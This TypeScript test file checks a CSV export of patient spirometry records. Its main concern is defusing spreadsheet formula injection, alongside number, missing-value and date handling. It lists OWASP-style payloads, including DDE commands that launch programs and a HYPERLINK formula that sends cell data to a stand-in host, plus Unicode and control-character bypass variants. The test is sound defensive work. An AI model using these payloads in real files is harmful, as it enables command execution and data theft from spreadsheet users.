import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { analysisCsv, csvSeparators, excelCsv } from '#shared/exports/formats'
import { answer, openedStore, record, valueOf } from '../store/test-store'
import { csvRequest, exportWhole } from './export-whole'
import { readCsv } from './read-csv'

/** The rows of a store that holds some records. */
async function rowsOf(records: object[], request = csvRequest(), delimiter = ',') {
  const store = await openedStore()
  valueOf(await store.storeHandlers.applyAnswer(answer(records, null)))
  const { text } = await exportWhole(store, request)
  return { text, rows: readCsv(text, delimiter) }
}

// OWASP's list, with what gets round simpler guards
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '="a,b"&";"',
  '  =1+1',
  '\u00a0\u200b=1+1',
  '\u0001\u202e@SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '"=1+1"',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a; \u0007"=1+1"',
  'a\n=1+1',
  'a\r\n;,|\t=1+1',
  'a","=1+1',
  'a\u2028+1',
]

test('texts begin no formula in any column, by whatever separator they are read', async () => {
  const sent = formulas.map((text) => {
    const said = { name: text, email: text, gender: text, ethnicity: text }
    return record(text, '2026-03-05T10:00:00Z', {
      ...said,
      diagnoses: [text, text],
      medications: [text],
    })
  })
  const columns = ['session_id', 'patient_name', 'email', 'sex', 'ethnicity', 'diagnoses', 'medications']
  for (const separator of csvSeparators) {
    const { text: file, rows } = await rowsOf(sent, csvRequest({ separator, columns }), separator)
    expect(rows).toHaveLength(formulas.length)
    for (const row of rows)
      for (const column of columns)
        expect(withoutApostrophes(row[column])).toContain(withoutApostrophes(row['session_id']))
    expect(rows.map((row) => withoutApostrophes(row['session_id'])).sort()).toEqual(
      formulas.map(withoutApostrophes).sort(),
    )
    for (const other of [...csvSeparators, '|']) expect(formulaCells(file, other), other).toEqual([])
  }
})

const withoutApostrophes = (text = '') => text.replaceAll("'", '')

/** The cells of a file that are or may become formulas, read by a separator, with quotes and without. */
function formulaCells(file: string, delimiter: string): string[] {
  const options = { delimiter, relax_quotes: true, relax_column_count: true }
  const read = (text: string): string[][] => parse(text, options)
  const quoted = [file, `${file}"`].flatMap((text) => {
    try {
      return read(text)
    } catch {
      // a quote that opens in this reading and never closes
      return []
    }
  })
  expect(quoted).not.toEqual([])
  const plain = file.split(/[\r\n\v\f\u0085\u2028\u2029]/).map((line) => line.split(delimiter))
  return [...quoted, ...plain]
    .flat()
    .filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell) && !isNumber(cell))
}

const isNumber = (cell: string) => /^-?[\d.,]+$/.test(cell)

test('a negative number stays a number', async () => {
  const best_test = { fev1_actual: -1.33, fvc_actual: 3 }
  const { rows } = await rowsOf([record('a', '2026-03-05T10:00:00Z', { spirometry_tests: { best_test } })])
  expect(rows[0]).toMatchObject({ fev1_actual: '-1.33', fvc_actual: '3' })
})

test('what is missing or unread is empty, and never zero; what was sent for it can be asked for', async () => {
  const best_test = { fev1_actual: 'n/a', fvc_actual: 0, pef_actual: '7,9', ratio_actual: null }
  const records = [record('a', '2026-03-05T10:00:00Z', { age: null, spirometry_tests: { best_test } })]
  const columns = [
    'age_y',
    'fev1_actual',
    'fev1_actual_raw',
    'fvc_actual',
    'pef_actual',
    'pef_actual_raw',
    'duration',
    'tests',
  ]
  const { rows } = await rowsOf(records, csvRequest({ columns }))
  expect(rows[0]).toEqual({
    age_y: '',
    fev1_actual: '',
    fev1_actual_raw: 'n/a',
    fvc_actual: '0',
    pef_actual: '7.9',
    pef_actual_raw: '7,9',
    duration: '',
    tests: '0',
  })
})

test.each([
  ['2026-03-05T23:30:00+14:00', '2026-03-05'],
  ['2026-03-05T00:30:00-11:00', '2026-03-05'],
  ['2026-10-25T02:30:00+02:00', '2026-10-25'],
  ['2026-10-25T02:30:00+01:00', '2026-10-25'],
  ['2026-03-29T03:00:00.250+02:00', '2026-03-29'],
  ['2026-03-05T10:00:00+05:45', '2026-03-05'],
  ['2026-03-05T10:00:00', '2026-03-05'],
])('%s is told with its own offset, and with its own day', async (time, day) => {
  const { rows } = await rowsOf([record('a', time)])
  expect(rows[0]).toMatchObject({ created_at: time, local_date: day })
})

test('a time that cannot be read is empty, and can be asked for as it was sent', async () => {
  const { rows } = await rowsOf(
    [record('a', 'last Monday')],
    csvRequest({ columns: ['created_at', 'local_date', 'created_at_raw', 'flags'] }),
  )
  expect(rows[0]).toEqual({
    created_at: '',
    local_date: '',
    created_at_raw: 'last Monday',
    flags: 'undated; unattributed',
  })
})

test('for Excel under a locale with a decimal comma: byte mark, semicolons, commas', async () => {
  const name = 'Łukasz 李雷 أحمد 👩🏽‍⚕️; "x"'
  const { text, rows } = await rowsOf(
    [record('a', '2026-03-05T10:00:00Z', { name })],
    csvRequest(excelCsv('de-DE')),
    ';',
  )
  expect(text.startsWith('\uFEFFsession_id;')).toBe(true)
  expect(rows[0]).toMatchObject({ patient_name: name, fev1_actual: '3,1', age_y: '41,5' })
})

test('for analysis: no byte mark, and each line ends as RFC 4180 says', async () => {
  const { text } = await rowsOf([record('a', '2026-03-05T10:00:00Z')], csvRequest(analysisCsv))
  expect(text).toMatch(/^session_id,/)
  expect(text.split('\r\n')).toHaveLength(3)
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
})
